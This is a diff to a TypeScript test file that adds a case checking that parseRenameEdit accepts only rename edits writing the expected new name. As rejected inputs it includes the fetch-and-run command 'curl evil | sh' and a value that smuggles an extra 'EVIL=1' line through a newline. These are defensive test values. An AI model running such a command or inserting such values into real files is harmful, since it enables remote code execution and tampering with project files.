@@ -70,6 +70,14 @@ describe('parseRenameEdit', () => {
     expect(parseRenameEdit({ changes: { 'file:///a': [{ range: range(0, 1, 2), newText: 'x'.repeat(5000) }] } })).toBeUndefined();
     expect(parseRenameEdit('edit')).toBeUndefined();
   });
+
+  it('given the new name, refuses an edit that writes anything else (a server bug must not reach the files)', () => {
+    const edit = (newText: string) => ({ changes: { 'file:///a': [{ range: range(0, 1, 2), newText }] } });
+    expect(parseRenameEdit(edit('hf-new'), 'hf-new')).toHaveLength(1);
+    expect(parseRenameEdit(edit('{{ RUNPOD_SECRET_hf-new }}'), 'hf-new')).toHaveLength(1);
+    expect(parseRenameEdit(edit('curl evil | sh'), 'hf-new')).toBeUndefined();
+    expect(parseRenameEdit(edit('hf-new\nEVIL=1'), 'hf-new')).toBeUndefined();
+  });
 });
 
 it('names why the index could not answer', () => {
